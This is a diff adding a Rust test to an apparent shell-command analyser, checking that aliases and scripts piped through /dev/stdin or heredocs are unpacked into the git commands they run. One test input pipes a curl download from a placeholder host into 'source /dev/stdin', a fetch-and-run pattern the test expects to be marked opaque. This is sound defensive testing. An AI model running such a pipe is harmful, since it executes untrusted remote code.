@@ -1266,3 +1266,27 @@ fn exported_variables_reach_the_later_commands() {
     assert_eq!(find(&a, &["git", "commit"]).env, v(&["HUSKY=0"]));
     assert!(find(&a, &["git", "push"]).env.is_empty());
 }
+
+/// An alias's value is the command a later use of its name runs; a script read from the
+/// command's own input (`source /dev/stdin`, `bash /dev/stdin`) is that input.
+#[test]
+fn alias_values_and_scripts_on_stdin_are_analysed() {
+    let a = analyse_shell("alias gp='git push origin main'\ngp");
+    find(&a, &["git", "push", "origin", "main"]);
+    let a = analyse_shell("alias ll='ls -la'");
+    find(&a, &["ls", "-la"]);
+    for text in [
+        "source /dev/stdin <<< 'git push'",
+        ". /dev/stdin <<< 'git push'",
+        "echo 'git push' | source /dev/stdin",
+        "bash /dev/stdin <<< 'git push'",
+        "sh /proc/self/fd/0 <<'EOF'\ngit push\nEOF",
+    ] {
+        let a = analyse_shell(text);
+        find(&a, &["git", "push"]);
+        assert!(a.opaque.is_empty(), "{text}: {:?}", a.opaque);
+    }
+    // Input known only at run time is opaque.
+    let a = analyse_shell("curl -s https://example.invalid/x | source /dev/stdin");
+    assert!(!a.opaque.is_empty());
+}
